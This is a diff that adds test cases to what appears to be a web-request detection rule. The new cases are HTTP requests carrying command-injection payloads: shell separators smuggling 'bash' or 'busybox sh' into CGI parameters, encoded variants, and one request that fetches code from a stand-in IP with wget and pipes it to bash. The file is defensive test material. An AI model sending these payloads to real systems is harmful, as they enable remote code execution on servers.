@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -59,6 +60,17 @@ export default defineRule({
     },
     { request: 'GET / HTTP/1.1', agent: ';sh+/tmp/x.sh' },
     { request: 'GET / HTTP/1.1', user: ';sh+/tmp/x.sh' },
+    ...each(
+      'GET /cgi-bin/a.cgi?x={}+a.pl HTTP/1.1',
+      `;bash ;/bin/sh ;/bin/bash ;busybox+sh ;+bash ;+busybox+sh &&bash &&busybox+sh |+busybox+sh
+    |busybox+sh &+bash &+busybox+sh`,
+    ),
+    ...each(
+      'GET /cgi-bin/a.cgi?x={}/tmp/x.sh HTTP/1.1',
+      `;ash+ ;dash+ ;/tmp/ ;+./ &&./ |+./ |./ &+./ ;+sh+ %3B%20sh%2B &&sh%20 %26%26sh%2B |+ash+ |ash+
+    %26%20sh%2B`,
+    ),
+    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|+bash) HTTP/1.1',
   ],
   misses: [
     'GET /find?q=fish;shop=1 HTTP/1.1',
